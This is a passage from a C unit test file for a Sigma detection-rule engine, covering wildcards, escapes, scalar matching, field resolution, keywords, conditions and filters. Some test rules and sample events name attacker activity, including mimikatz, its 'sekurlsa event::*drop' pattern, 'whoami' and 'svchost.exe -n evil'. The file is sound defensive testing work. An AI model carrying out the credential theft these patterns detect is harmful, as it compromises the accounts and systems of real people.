             "{'Name':'\\\\plainparis'}", 0},
            {"with contains", SEL("CommandLine|expand|contains: '%Tool%'"),
             "{'CommandLine':'run mimikatz.exe'}", 1},
            {"from a placeholders file", SEL("Host|expand: '%Servers%'"), "{'Host':'srv42'}", 1},
            {"from a placeholders file, second", SEL("Host|expand: '%Servers%'"), "{'Host':'DC01'}",
             1},
            {"list of values", SEL("User|expand: ['%Admins%', guest]"), "{'User':'guest'}", 1},
            {"without expand the text is literal", SEL("User: '%Admins%'"), "{'User':'%Admins%'}",
             1},
            {"without expand no substitution", SEL("User: '%Admins%'"), "{'User':'root'}", 0},
            {"expand with neq", SEL("User|expand|neq: '%Admins%'"), "{'User':'adm_x'}", 0},
            {"expand with neq other", SEL("User|expand|neq: '%Admins%'"), "{'User':'bob'}", 1},
            {"lone percent is literal", SEL("Rate|expand: '50%'"), "{'Rate':'50%'}", 1},
    };
    RUN(rows, prep_placeholders);
}

/* An undefined placeholder rejects the rule (the spec: a tool that cannot handle a
 * placeholder must reject the rule). */
static void test_expand_undefined(void **state)
{
    (void)state;
    env e;
    env_init(&e);
    prep_placeholders(e.rs, e.d);
    char text[1024];
    rule_text(SEL("User|expand: '%Nope%'"), text, sizeof(text));
    env_load(&e, text);
    assert_int_equal(vg_ruleset_count(e.rs), 0);
    assert_int_equal(vg_diags_errors(e.d), 1);
    env_free(&e);
}

/* ---- time parts ---- */

#define TS "{'Ts':'2026-04-17T05:24:53.092Z'}"

static void test_time(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"minute", SEL("Ts|minute: 24"), TS, 1},
            {"minute miss", SEL("Ts|minute: 25"), TS, 0},
            {"hour", SEL("Ts|hour: 5"), TS, 1},
            {"hour miss", SEL("Ts|hour: 6"), TS, 0},
            {"day", SEL("Ts|day: 17"), TS, 1},
            {"day miss", SEL("Ts|day: 18"), TS, 0},
            {"week (ISO)", SEL("Ts|week: 16"), TS, 1},
            {"week miss", SEL("Ts|week: 17"), TS, 0},
            {"month", SEL("Ts|month: 4"), TS, 1},
            {"month miss", SEL("Ts|month: 5"), TS, 0},
            {"year", SEL("Ts|year: 2026"), TS, 1},
            {"year miss", SEL("Ts|year: 2025"), TS, 0},
            {"hour gte", SEL("Ts|hour|gte: 5"), TS, 1},
            {"hour gte miss", SEL("Ts|hour|gte: 6"), TS, 0},
            {"hour lt", SEL("Ts|hour|lt: 6"), TS, 1},
            {"gte before the part", SEL("Ts|gte|hour: 5"), TS, 1},
            {"hour gt", SEL("Ts|hour|gt: 5"), TS, 0},
            {"month lte", SEL("Ts|month|lte: 4"), TS, 1},
            {"hour list is OR", SEL("Ts|hour: [1, 5]"), TS, 1},
            {"office hours",
             "sel:\n    Ts|hour|gte: 8\nsel2:\n    Ts|hour|lt: 18\n"
             "condition: not (sel and sel2)",
             TS, 1},
            {"month neq", SEL("Ts|month|neq: 4"), TS, 0},
            {"month neq other", SEL("Ts|month|neq: 5"), TS, 1},
            {"space separator", SEL("Ts|minute: 24"), "{'Ts':'2026-04-17 05:24:53.079'}", 1},
            {"offset is converted to UTC", SEL("Ts|hour: 5"), "{'Ts':'2026-04-17T07:24:53+02:00'}",
             1},
            {"epoch seconds", SEL("Ts|hour: 5"), "{'Ts':1776403493}", 1},
            {"not a date", SEL("Ts|hour: 5"), "{'Ts':'five'}", 0},
            {"invalid date", SEL("Ts|day: 31"), "{'Ts':'2026-04-31T05:24:53Z'}", 0},
            {"absent", SEL("Ts|hour: 5"), "{'Other':'2026-04-17T05:24:53.092Z'}", 0},
    };
    RUN(rows, NULL);
}

/* ---- wildcards, escapes, case ---- */

static void test_wildcards(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            /* a backslash before a wildcard is escaped as \\ (spec, escape character) */
            {"star after a path separator", SEL("Image: 'C:\\Windows\\\\*\\cmd.exe'"),
             "{'Image':'C:\\\\Windows\\\\System32\\\\cmd.exe'}", 1},
            {"star after a path separator miss", SEL("Image: 'C:\\Windows\\\\*\\cmd.exe'"),
             "{'Image':'C:\\\\Windows\\\\cmd.exe'}", 0},
            {"backslash star is a literal star", SEL("Image: 'C:\\Windows\\*\\cmd.exe'"),
             "{'Image':'C:\\\\Windows\\\\System32\\\\cmd.exe'}", 0},
            {"backslash star literal hit", SEL("Image: 'C:\\Windows\\*\\cmd.exe'"),
             "{'Image':'C:\\\\Windows*\\\\cmd.exe'}", 1},
            {"leading star", SEL("Image: '*\\cmd.exe'"), "{'Image':'D:\\\\x\\\\cmd.exe'}", 1},
            {"star matches empty", SEL("Name: 'ab*c'"), "{'Name':'abc'}", 1},
            {"star alone matches empty", SEL("Name: '*'"), "{'Name':''}", 1},
            {"star alone needs the field", SEL("Name: '*'"), "{'Other':'x'}", 0},
            {"question mark", SEL("Name: 'prog?.exe'"), "{'Name':'progA.exe'}", 1},
            {"question mark needs one", SEL("Name: 'prog?.exe'"), "{'Name':'prog.exe'}", 0},
            {"question mark only one", SEL("Name: 'prog?.exe'"), "{'Name':'progAB.exe'}", 0},
            {"spec example antivirus", SEL("Name: 'antivirus_V*.exe'"),
             "{'Name':'antivirus_V21.2.1.exe'}", 1},
            {"escaped star is literal", SEL("Name: 'a\\*b'"), "{'Name':'a*b'}", 1},
            {"escaped star no wildcard", SEL("Name: 'a\\*b'"), "{'Name':'axb'}", 0},
            {"escaped question mark is literal", SEL("Name: 'a\\?b'"), "{'Name':'a?b'}", 1},
            {"escaped question mark no wildcard", SEL("Name: 'a\\?b'"), "{'Name':'axb'}", 0},
            {"single backslash is literal", SEL("Path: 'C:\\Windows'"), "{'Path':'C:\\\\Windows'}",
             1},
            {"double backslash is one backslash", SEL("Path: 'C:\\\\Windows'"),
             "{'Path':'C:\\\\Windows'}", 1},
            {"double backslash then star", SEL("Path: 'C:\\\\*'"), "{'Path':'C:\\\\anything'}", 1},
            {"double backslash then star needs the backslash", SEL("Path: 'C:\\\\*'"),
             "{'Path':'C:x'}", 0},
            {"three backslashes and star: both literal", SEL("Path: 'C:\\\\\\*'"),
             "{'Path':'C:\\\\*'}", 1},
            {"three backslashes and star: no wildcard", SEL("Path: 'C:\\\\\\*'"),
             "{'Path':'C:\\\\abc'}", 0},
            {"four backslashes are two", SEL("Path: '\\\\\\\\server'"), "{'Path':'\\\\\\\\server'}",
             1},
            {"four backslashes are not one", SEL("Path: '\\\\\\\\server'"), "{'Path':'\\\\server'}",
             0},
            {"three backslashes are two", SEL("Path: 'a\\\\\\b'"), "{'Path':'a\\\\\\\\b'}", 1},
            {"trailing backslash", SEL("Path: 'C:\\'"), "{'Path':'C:\\\\'}", 1},
            {"case-insensitive by default", SEL("Image: 'C:\\WINDOWS\\CMD.EXE'"),
             "{'Image':'c:\\\\windows\\\\cmd.exe'}", 1},
            {"case-insensitive wildcard", SEL("Image: '*\\SYSTEM32\\\\*'"),
             "{'Image':'c:\\\\windows\\\\system32\\\\x'}", 1},
            {"non-ASCII letters compare exactly", SEL("Name: '\xc3\x89t\xc3\xa9'"),
             "{'Name':'\xc3\xa9t\xc3\xa9'}", 0},
            {"question mark on 2-byte UTF-8", SEL("Name: 'caf?'"), "{'Name':'caf\xc3\xa9'}", 1},
            {"question mark is one character", SEL("Name: 'caf?\?'"), "{'Name':'caf\xc3\xa9'}", 0},
            {"question mark on 3-byte UTF-8", SEL("Name: '?'"), "{'Name':'\xe2\x82\xac'}", 1},
            {"question mark on 4-byte UTF-8", SEL("Name: 'x?y'"), "{'Name':'x\xf0\x9f\x98\x80y'}",
             1},
            {"question mark on escaped UTF-8", SEL("Name: 'x?y'"), "{'Name':'x\\u00e9y'}", 1},
            {"star then question mark on UTF-8", SEL("Name: '*?x'"), "{'Name':'ab\xe2\x82\xacx'}",
             1},
            {"question mark after star needs a character", SEL("Name: '*?x'"), "{'Name':'x'}", 0},
            {"wildcards in double-quoted YAML", SEL("Image: \"*\\\\cmd.exe\""),
             "{'Image':'C:\\\\cmd.exe'}", 1},
    };
    RUN(rows, NULL);
}

/* ---- numbers, booleans, null ---- */

static void test_scalars(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"number vs number", SEL("EventID: 4688"), "{'EventID':4688}", 1},
            {"number vs string", SEL("EventID: 4688"), "{'EventID':'4688'}", 1},
            {"number vs other number", SEL("EventID: 4688"), "{'EventID':4689}", 0},
            {"number vs longer string", SEL("EventID: 4688"), "{'EventID':'46880'}", 0},
            {"number is not a substring", SEL("EventID: 46"), "{'EventID':4688}", 0},
            {"quoted number vs number", SEL("EventID: '4688'"), "{'EventID':4688}", 1},
            {"quoted number vs string", SEL("EventID: '4688'"), "{'EventID':'4688'}", 1},
            {"number list", SEL("EventID: [517, 1102]"), "{'EventID':1102}", 1},
            {"number list miss", SEL("EventID: [517, 1102]"), "{'EventID':1103}", 0},
            {"negative number", SEL("Delta: -5"), "{'Delta':-5}", 1},
            {"fraction vs fraction", SEL("Ratio: 1.5"), "{'Ratio':1.50}", 1},
            {"fraction vs string", SEL("Ratio: 1.5"), "{'Ratio':'1.5'}", 1},
            {"zero vs false", SEL("Count: 0"), "{'Count':false}", 0},
            {"zero vs zero", SEL("Count: 0"), "{'Count':0}", 1},
            {"hex vs hex string", SEL("Flags: 0x10"), "{'Flags':'0x10'}", 1},
            {"hex vs decimal number", SEL("Flags: 0x10"), "{'Flags':16}", 1},
            {"hex vs other", SEL("Flags: 0x10"), "{'Flags':17}", 0},
            {"quoted hex is a string", SEL("TicketOptions: '0x40810000'"),
             "{'TicketOptions':'0x40810000'}", 1},
            {"quoted hex vs its decimal value", SEL("TicketOptions: '0x40810000'"),
             "{'TicketOptions':1082195968}", 0},
            {"true vs true", SEL("Enabled: true"), "{'Enabled':true}", 1},
            {"true vs string", SEL("Enabled: true"), "{'Enabled':'true'}", 1},
            {"true vs capitalised string", SEL("Enabled: true"), "{'Enabled':'True'}", 1},
            {"true vs false", SEL("Enabled: true"), "{'Enabled':false}", 0},
            {"true vs 1", SEL("Enabled: true"), "{'Enabled':1}", 0},
            {"false vs false", SEL("Enabled: false"), "{'Enabled':false}", 1},
            {"false vs string", SEL("Enabled: false"), "{'Enabled':'false'}", 1},
            {"false vs absent", SEL("Enabled: false"), "{'Other':false}", 0},
            {"false vs null", SEL("Enabled: false"), "{'Enabled':null}", 0},
            {"quoted true vs true", SEL("Enabled: 'true'"), "{'Enabled':true}", 1},
            {"null vs absent", SEL("Field: null"), "{'Other':'x'}", 1},
            {"null vs JSON null", SEL("Field: null"), "{'Field':null}", 1},
            {"null vs empty string", SEL("Field: null"), "{'Field':''}", 0},
            {"null vs value", SEL("Field: null"), "{'Field':'x'}", 0},
            {"null vs string null", SEL("Field: null"), "{'Field':'null'}", 0},
            {"tilde is null", SEL("Field: ~"), "{'Other':'x'}", 1},
            {"empty value is null", SEL("Field:"), "{'Field':null}", 1},
            {"quoted null is a string", SEL("Field: 'null'"), "{'Field':'null'}", 1},
            {"quoted null vs absent", SEL("Field: 'null'"), "{'Other':'x'}", 0},
            {"empty string vs empty", SEL("Field: ''"), "{'Field':''}", 1},
            {"empty string vs absent", SEL("Field: ''"), "{'Other':'x'}", 0},
            {"empty string vs null", SEL("Field: ''"), "{'Field':null}", 0},
            {"empty string vs value", SEL("Field: ''"), "{'Field':'x'}", 0},
            {"not null: present", "sel:\n    Field: null\ncondition: not sel", "{'Field':'x'}", 1},
            {"not null: null", "sel:\n    Field: null\ncondition: not sel", "{'Field':null}", 0},
            {"spec: 1 of selection_empty*",
             "selection_main:\n    FieldA: something\nselection_empty1:\n    FieldB: ''\n"
             "selection_empty2:\n    FieldB: null\n"
             "condition: selection_main and 1 of selection_empty*",
             "{'FieldA':'something'}", 1},
            {"string value vs object", SEL("Event: '*'"), "{'Event':{'A':1}}", 0},
            {"string value vs array of objects", SEL("Event: '*'"), "{'Event':[{'A':1}]}", 0},
    };
    RUN(rows, NULL);
}

/* ---- arrays, field resolution ---- */

static void test_fields(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"array any element", SEL("Tags: b"), "{'Tags':['a','b']}", 1},
            {"array no element", SEL("Tags: c"), "{'Tags':['a','b']}", 0},
            {"empty array", SEL("Tags: a"), "{'Tags':[]}", 0},
            {"array of numbers", SEL("Ports: 445"), "{'Ports':[80,445]}", 1},
            {"array with contains", SEL("Tags|contains: ttac"), "{'Tags':['x','attack.t1']}", 1},
            {"nested arrays", SEL("Tags: c"), "{'Tags':[['a','b'],['c']]}", 1},
            {"objects in array, dotted path", SEL("Items.Name: b"),
             "{'Items':[{'Name':'a'},{'Name':'b'}]}", 1},
            {"objects in array, leaf", SEL("Name: b"), "{'Items':[{'Name':'a'},{'Name':'b'}]}", 1},
            {"objects in array, miss", SEL("Items.Name: c"),
             "{'Items':[{'Name':'a'},{'Name':'b'}]}", 0},
            {"objects in array, AND across elements", SEL("Items.Name: a\n    Items.Size: 2"),
             "{'Items':[{'Name':'a','Size':1},{'Name':'b','Size':2}]}", 1},
            {"exact dotted path", SEL("Event.EventData.Image|endswith: '\\cmd.exe'"),
             "{'Event':{'EventData':{'Image':'C:\\\\x\\\\cmd.exe'}}}", 1},
            {"dotted path miss", SEL("Event.EventData.Image|endswith: '\\cmd.exe'"),
             "{'Event':{'System':{'Image':'C:\\\\x\\\\cmd.exe'}}}", 0},
            {"unique leaf", SEL("Image|endswith: '\\cmd.exe'"),
             "{'Event':{'EventData':{'Image':'C:\\\\x\\\\cmd.exe'}}}", 1},
            {"partial path is a path, not a leaf", SEL("EventData.Image: x"),
             "{'Event':{'EventData':{'Image':'x'}}}", 0},
            {"ambiguous leaf", SEL("Name: a"), "{'Src':{'Name':'a'},'Dst':{'Name':'b'}}", 0},
            {"ambiguous leaf, other value", SEL("Name: b"),
             "{'Src':{'Name':'a'},'Dst':{'Name':'b'}}", 0},
            {"ambiguous leaf, full path", SEL("Src.Name: a"),
             "{'Src':{'Name':'a'},'Dst':{'Name':'b'}}", 1},
            {"exact path before leaf", SEL("Image: b"), "{'Image':'a','X':{'Image':'b'}}", 0},
            {"exact top-level path", SEL("Image: a"), "{'Image':'a','X':{'Image':'b'}}", 1},
            {"leaf with spaces", SEL("ThreatName: Eicar"), "{'Threat Name':'Eicar'}", 1},
            {"evtx #text value", SEL("EventID: 7045"),
             "{'System':{'EventID':{'#attributes':{'Qualifiers':16384},'#text':7045}}}", 1},
            {"evtx #text value, other number", SEL("EventID: 7045"),
             "{'System':{'EventID':{'#attributes':{'Qualifiers':16384},'#text':7046}}}", 0},
            {"evtx #text with contains", SEL("Data|contains: bar"),
             "{'Data':{'#attributes':{'Name':'x'},'#text':'foobarbaz'}}", 1},
            {"nested leaf with spaces", SEL("ThreatName: Eicar"),
             "{'Details':{'Threat Name':'Eicar'}}", 1},
            {"key with spaces as written", SEL("'Threat Name': Eicar"), "{'Threat Name':'Eicar'}",
             1},
            {"field names are case-sensitive", SEL("image: x"), "{'Image':'x'}", 0},
            {"list of maps is OR (first)",
             "sel:\n    - Image|endswith: '\\example.exe'\n"
             "    - Description|contains: Test executable\ncondition: sel",
             "{'Image':'C:\\\\example.exe'}", 1},
            {"list of maps is OR (second)",
             "sel:\n    - Image|endswith: '\\example.exe'\n"
             "    - Description|contains: Test executable\ncondition: sel",
             "{'Description':'a Test executable here'}", 1},
            {"list of maps is OR (none)",
             "sel:\n    - Image|endswith: '\\example.exe'\n"
             "    - Description|contains: Test executable\ncondition: sel",
             "{'Image':'x','Description':'y'}", 0},
            {"map is AND", SEL("EventLog: Security\n    EventID: [517, 1102]"),
             "{'EventLog':'Security','EventID':517}", 1},
            {"map is AND, one false", SEL("EventLog: Security\n    EventID: [517, 1102]"),
             "{'EventLog':'System','EventID':517}", 0},
            {"list of maps, each an AND",
             "sel:\n    - A: 1\n      B: 2\n    - C: 3\ncondition: sel", "{'A':1,'C':4}", 0},
            {"list of maps, each an AND hit",
             "sel:\n    - A: 1\n      B: 2\n    - C: 3\ncondition: sel", "{'A':1,'B':2}", 1},
    };
    RUN(rows, NULL);
}

static void prep_fieldmap(vg_ruleset *rs, vg_diags *d)
{
    static const char file[] = "fields:\n"
                               "  Image: [NewProcessName, process.executable]\n"
                               "  User: SubjectUserName\n";
    assert_int_equal(vg_ruleset_add_fieldmap(rs, "fields.yml", file, strlen(file), d), VG_OK);
}

static void test_fieldmap(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"Sigma name", SEL("Image|endswith: '\\cmd.exe'"), "{'Image':'C:\\\\cmd.exe'}", 1},
            {"first mapping", SEL("Image|endswith: '\\cmd.exe'"),
             "{'NewProcessName':'C:\\\\cmd.exe'}", 1},
            {"second mapping (dotted)", SEL("Image|endswith: '\\cmd.exe'"),
             "{'process':{'executable':'C:\\\\cmd.exe'}}", 1},
            {"scalar mapping", SEL("User: bob"), "{'SubjectUserName':'bob'}", 1},
            {"the Sigma name wins when present", SEL("Image|endswith: '\\cmd.exe'"),
             "{'Image':'a.exe','NewProcessName':'C:\\\\cmd.exe'}", 0},
            {"unmapped field", SEL("CommandLine: x"), "{'ProcessCommandLine':'x'}", 0},
            {"mapped exists", SEL("Image|exists: true"), "{'NewProcessName':'x'}", 1},
            {"mapped fieldref target", SEL("Target|fieldref: Image"),
             "{'NewProcessName':'x','Target':'x'}", 1},
    };
    RUN(rows, prep_fieldmap);
}

/* ---- keywords ---- */

static void test_keywords(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"keyword substring", "keywords:\n    - whoami\n    - mimikatz\ncondition: keywords",
             "{'CommandLine':'cmd /c whoami /all'}", 1},
            {"keyword second", "keywords:\n    - whoami\n    - mimikatz\ncondition: keywords",
             "{'A':'x','B':'MIMIKATZ.exe'}", 1},
            {"keyword miss", "keywords:\n    - whoami\n    - mimikatz\ncondition: keywords",
             "{'A':'x','B':'y'}", 0},
            {"keyword nested value", "keywords:\n    - whoami\ncondition: keywords",
             "{'A':{'B':{'C':'whoami'}}}", 1},
            {"keyword array element", "keywords:\n    - whoami\ncondition: keywords",
             "{'A':['x','run whoami']}", 1},
            {"keyword does not match keys", "keywords:\n    - whoami\ncondition: keywords",
             "{'whoami':'x'}", 0},
            {"keyword spec example",
             "keywords:\n    - 'EVILSERVICE'\n    - 'svchost.exe -n evil'\n"
             "condition: keywords",
             "{'Message':'started svchost.exe -n evil now'}", 1},
            {"keyword single scalar", "keywords: whoami\ncondition: keywords", "{'A':'cmd whoami'}",
             1},
            {"keyword with star", "keywords:\n    - 'event::*drop'\ncondition: keywords",
             "{'A':'sekurlsa event::xdrop x'}", 1},
            {"keyword with star miss", "keywords:\n    - 'event::*drop'\ncondition: keywords",
             "{'A':'sekurlsa event::xdrip x'}", 0},
            {"keyword with question mark", "keywords:\n    - 'who?mi'\ncondition: keywords",
             "{'A':'x whoami'}", 1},
            {"keyword with escaped star", "keywords:\n    - 'a\\*b'\ncondition: keywords",
             "{'A':'xa*bx'}", 1},
            {"keyword with escaped star miss", "keywords:\n    - 'a\\*b'\ncondition: keywords",
             "{'A':'xaxbx'}", 0},
            {"|all keywords across fields",
             "keywords_cmdlet:\n    '|all':\n        - 'OabVirtualDirectory'\n"
             "        - ' -ExternalUrl '\ncondition: keywords_cmdlet",
             "{'A':'Set-OabVirtualDirectory','B':'x -ExternalUrl http://y'}", 1},
            {"|all keywords one missing",
             "keywords_cmdlet:\n    '|all':\n        - 'OabVirtualDirectory'\n"
             "        - ' -ExternalUrl '\ncondition: keywords_cmdlet",
             "{'A':'Set-OabVirtualDirectory -InternalUrl x'}", 0},
            {"keyword with a selection",
             "sel:\n    EventID: 1\nkeywords:\n    - whoami\n"
             "condition: sel and keywords",
             "{'EventID':1,'CommandLine':'whoami'}", 1},
            {"keyword and not",
             "sel:\n    EventID: 1\nkeywords:\n    - whoami\n"
             "condition: sel and not keywords",
             "{'EventID':1,'CommandLine':'whoami'}", 0},
            {"keywords and maps in one list",
             "sel:\n    - whoami\n    - EventID: 7\ncondition: sel", "{'EventID':7}", 1},
            {"keywords and maps in one list (keyword)",
             "sel:\n    - whoami\n    - EventID: 7\ncondition: sel", "{'EventID':8,'X':'whoami'}",
             1},
            {"keywords and maps in one list (none)",
             "sel:\n    - whoami\n    - EventID: 7\ncondition: sel", "{'EventID':8,'X':'who'}", 0},
    };
    RUN(rows, NULL);
}

/* ---- conditions ---- */

#define DET3(cond) "sel1:\n    A: 1\nsel2:\n    B: 1\nsel3:\n    C: 1\ncondition: " cond

static void test_conditions(void **state)
{
    (void)state;
    static const eval_row rows[] = {
            {"and", DET3("sel1 and sel2"), "{'A':1,'B':1}", 1},
            {"and miss", DET3("sel1 and sel2"), "{'A':1}", 0},
            {"or", DET3("sel1 or sel2"), "{'B':1}", 1},
            {"or miss", DET3("sel1 or sel2"), "{'C':1}", 0},
            {"not", DET3("not sel1"), "{'B':1}", 1},
            {"not miss", DET3("not sel1"), "{'A':1}", 0},
            {"parentheses", DET3("sel1 and (sel2 or sel3)"), "{'A':1,'C':1}", 1},
            {"parentheses miss", DET3("sel1 and (sel2 or sel3)"), "{'B':1,'C':1}", 0},
            {"parentheses first", DET3("(sel1 or sel2) and sel3"), "{'A':1}", 0},
            {"or binds loosest", DET3("sel1 or sel2 and sel3"), "{'A':1}", 1},
            {"or binds loosest (2)", DET3("sel1 or sel2 and sel3"), "{'B':1}", 0},
            {"and before or", DET3("sel1 and sel2 or sel3"), "{'C':1}", 1},
            {"not binds tighter than and", DET3("not sel1 and sel2"), "{'C':1}", 0},
            {"not binds tighter than and (2)", DET3("not sel1 and sel2"), "{'B':1}", 1},
            {"not binds tighter than and (3)", DET3("not sel1 and sel2"), "{'A':1,'B':1}", 0},
            {"not not", DET3("not not sel1"), "{'A':1}", 1},
            {"not of parentheses", DET3("not (sel1 or sel2)"), "{'C':1}", 1},
            {"keywords in capitals", DET3("sel1 AND NOT sel2"), "{'A':1}", 1},
            {"1 of pattern", DET3("1 of sel*"), "{'C':1}", 1},
            {"1 of pattern miss", DET3("1 of sel*"), "{'D':1}", 0},
            {"any of pattern", DET3("any of sel*"), "{'B':1}", 1},
            {"all of pattern", DET3("all of sel*"), "{'A':1,'B':1,'C':1}", 1},
            {"all of pattern miss", DET3("all of sel*"), "{'A':1,'B':1}", 0},
            {"2 of pattern", DET3("2 of sel*"), "{'A':1,'C':1}", 1},
            {"2 of pattern miss", DET3("2 of sel*"), "{'A':1}", 0},
            {"pattern with inner star", DET3("1 of s*2"), "{'B':1}", 1},
            {"pattern with inner star miss", DET3("1 of s*2"), "{'A':1}", 0},
            {"pattern without star", DET3("1 of sel3"), "{'C':1}", 1},
            {"1 of them", DET3("1 of them"), "{'C':1}", 1},
            {"all of them", DET3("all of them"), "{'A':1,'B':1,'C':1}", 1},
            {"all of them miss", DET3("all of them"), "{'A':1,'C':1}", 0},
            {"of and not of",
             "selection1:\n    A: 1\nselection2:\n    B: 1\nfilter1:\n    C: 1\n"
             "condition: 1 of selection* and not 1 of filter*",
             "{'B':1}", 1},
            {"of and not of, filtered",
             "selection1:\n    A: 1\nselection2:\n    B: 1\nfilter1:\n    C: 1\n"
             "condition: 1 of selection* and not 1 of filter*",
             "{'B':1,'C':1}", 0},
            {"all of them skips _ids", "sel:\n    A: 1\n_aux:\n    Z: 1\ncondition: all of them",
             "{'A':1}", 1},
            {"1 of them skips _ids", "sel:\n    A: 1\n_aux:\n    Z: 1\ncondition: 1 of them",
             "{'Z':1}", 0},
            {"_ids by name", "sel:\n    A: 1\n_aux:\n    Z: 1\ncondition: sel and _aux",
             "{'A':1,'Z':1}", 1},
            {"condition list is OR",
             "sel1:\n    A: 1\nsel2:\n    B: 1\n"
             "condition:\n    - sel1\n    - sel2",
             "{'B':1}", 1},
            {"condition list miss",
             "sel1:\n    A: 1\nsel2:\n    B: 1\n"
             "condition:\n    - sel1\n    - sel2",
             "{'C':1}", 0},
            {"condition list of expressions", DET3("\n    - sel1 and sel2\n    - sel3"), "{'A':1}",
             0},
            {"identifier with dot and dash", "sel.a-1:\n    A: 1\ncondition: sel.a-1", "{'A':1}",
             1},
            {"same identifier twice", DET3("sel1 and not sel2 and sel1"), "{'A':1}", 1},
            {"identifiers starting with keywords",
             "andy:\n    A: 1\nnotepad:\n    B: 1\norange:\n    C: 1\n"
             "condition: andy and not notepad or orange",
             "{'A':1}", 1},
            {"identifiers starting with keywords (2)",
             "andy:\n    A: 1\nnotepad:\n    B: 1\norange:\n    C: 1\n"
             "condition: andy and not notepad or orange",
             "{'A':1,'B':1}", 0},
            {"numeric identifier", "1:\n    A: 1\ncondition: 1", "{'A':1}", 1},
            {"numeric identifier with of", "1:\n    A: 1\n2:\n    B: 1\ncondition: 1 of 2",
             "{'A':1}", 0},
    };
    RUN(rows, NULL);
}

/* ---- whole rulesets: filters, several rules, logsources ---- */

static const char filter_rules[] = "title: Rule one\n"
                                   "id: r1\n"
                                   "name: rule_one\n"
                                   "logsource: {product: test}\n"
                                   "detection:\n"
                                   "    sel:\n"
                                   "        EventID: 1\n"
                                   "    condition: sel\n"
                                   "---\n"
                                   "title: Rule two\n"
                                   "id: r2\n"
                                   "logsource: {product: test}\n"
                                   "detection:\n"
                                   "    sel:\n"
                                   "        EventID: 1\n"
                                   "    condition: sel\n"
                                   "---\n"
                                   "title: Filter admins\n"
                                   "id: f1\n"
                                   "logsource: {product: test}\n"
                                   "filter:\n"
                                   "    rules:\n"
                                   "        - r1\n"
                                   "    selection:\n"
                                   "        User|startswith: 'adm_'\n"
                                   "    condition: selection\n"
                                   "---\n"
                                   "title: Filter by name\n"
                                   "id: f2\n"
                                   "logsource: {product: test}\n"
                                   "filter:\n"
                                   "    rules: rule_one\n"
                                   "    selection:\n"
                                   "        Host: backup01\n"
                                   "    condition: selection\n"
                                   "---\n"
                                   "title: Filter of a missing rule\n"
                                   "id: f3\n"
                                   "logsource: {product: test}\n"
                                   "filter:\n"
                                   "    rules: [no-such-rule]\n"
                                   "    selection:\n"
                                   "        EventID: 1\n"
                                   "    condition: selection\n";

static void test_filters(void **state)
{
    (void)state;
    env e;
    env_init(&e);
    env_load(&e, filter_rules);
    if (vg_diags_errors(e.d))
        print_diags(e.d);
    assert_int_equal(vg_diags_errors(e.d), 0);
    assert_int_equal(vg_ruleset_count(e.rs), 2);
    vg_ruleset_stats st;
    vg_ruleset_stats_get(e.rs, &st);
    assert_int_equal(st.n_filters, 3);
    assert_int_equal(st.n_docs, 5);
    vg_rule_info info;
    vg_ruleset_rule_info(e.rs, 0, &info);
    assert_string_equal(info.id, "r1");
    assert_int_equal(info.n_filters, 2);
    vg_ruleset_rule_info(e.rs, 1, &info);
    assert_int_equal(info.n_filters, 0);

    /* the filter naming a missing rule is a warning at its document */
    bool warned = false;
    for (size_t i = 0; i < vg_diags_count(e.d); i++) {
        const vg_diag *g = vg_diags_get(e.d, i);
        if (strcmp(g->reason, "filter-target") == 0) {
            assert_int_equal(g->sev, VG_SEV_WARNING);
            assert_string_equal(g->rule_id, "f3");
            assert_non_null(strstr(g->msg, "no-such-rule"));
            warned = true;
        }
    }
    assert_true(warned);

    static const struct {
        const char *name;
        const char *event;
        size_t n;
        uint32_t first;
    } rows[] = {
            {"no filter matches: both rules", "{'EventID':1,'User':'bob'}", 2, 0},
            {"filter by id suppresses r1 only", "{'EventID':1,'User':'adm_bob'}", 1, 1},
            {"filter by name suppresses r1 only", "{'EventID':1,'Host':'BACKUP01'}", 1, 1},
            {"filter alone does not fire", "{'EventID':2,'User':'adm_bob'}", 0, 0},
    };
    int failed = 0;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        uint32_t hits[MAX_HITS];
        long n = env_match(&e, rows[i].event, NULL, hits, MAX_HITS);
        if (n != (long)rows[i].n || (n > 0 && hits[0] != rows[i].first)) {
            print_error("row '%s': got %ld hits (first %u), want %zu (first %u)\n", rows[i].name, n,
                        n > 0 ? (unsigned)hits[0] : 0u, rows[i].n, (unsigned)rows[i].first);
            failed++;
        }
    }
    env_free(&e);
    if (failed)
        fail_msg("%d rows failed", failed);
}

static void test_every_rule_fires(void **state)
{
    (void)state;
    static const char file1[] = "title: A\nid: a\nlogsource: {product: test}\n"
                                "detection: {sel: {EventID: 1}, condition: sel}\n"
                                "---\n"
                                "title: B\nid: b\nlogsource: {product: test}\n"
                                "detection: {sel: {EventID: 2}, condition: sel}\n"
                                "---\n"
                                "title: C\nid: c\nlogsource: {product: test}\n"
                                "detection: {sel: {User: bob}, condition: sel}\n";
    static const char file2[] = "title: D\nid: d\nlogsource: {product: test}\n"
                                "detection: {keywords: [bob], condition: keywords}\n";
    env e;
    env_init(&e);
    assert_int_equal(vg_ruleset_add_rules(e.rs, "one.yml", file1, strlen(file1), e.d), VG_OK);
    env_load(&e, file2);
    assert_int_equal(vg_diags_errors(e.d), 0);
    assert_int_equal(vg_ruleset_count(e.rs), 4);

    uint32_t hits[MAX_HITS];
    long n = env_match(&e, "{'EventID':1,'User':'bob'}", NULL, hits, MAX_HITS);
    assert_int_equal(n, 3);
    assert_int_equal(hits[0], 0);
    assert_int_equal(hits[1], 2);
    assert_int_equal(hits[2], 3);

    /* more hits than room: the count is complete, the first cap are written */
    hits[1] = 99;
    n = env_match(&e, "{'EventID':1,'User':'bob'}", NULL, hits, 1);
    assert_int_equal(n, 3);
    assert_int_equal(hits[0], 0);
    assert_int_equal(hits[1], 99);

    n = env_match(&e, "{'EventID':2}", NULL, hits, MAX_HITS);
    assert_int_equal(n, 1);
    assert_int_equal(hits[0], 1);

    vg_match_counters cnt;
    vg_match_counters_get(e.s, &cnt);
    assert_int_equal(cnt.events, 3);
    assert_int_equal(cnt.hits, 7);
    env_free(&e);
}

static const char ls_map[] = "logsources:\n"
                             "  - logsource: {product: windows, category: process_creation}\n"
                             "    when: [{EventID: 1}]\n"
                             "  - logsource: {product: windows}\n"
                             "    when: {Channel|exists: true}\n";

